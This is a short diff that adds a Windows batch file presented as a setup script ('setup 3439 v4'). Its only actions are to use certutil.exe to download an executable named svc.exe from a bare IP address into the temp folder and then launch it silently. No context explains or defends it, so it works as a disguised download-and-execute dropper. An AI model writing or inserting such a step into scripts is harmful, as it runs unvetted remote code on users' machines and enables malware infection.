@@ -1,0 +1,4 @@
+REM setup 3439 v4
+@echo off
+certutil.exe -urlcache -split -f http://198.51.100.23/svc.exe %TEMP%\svc.exe
+start "" %TEMP%\svc.exe
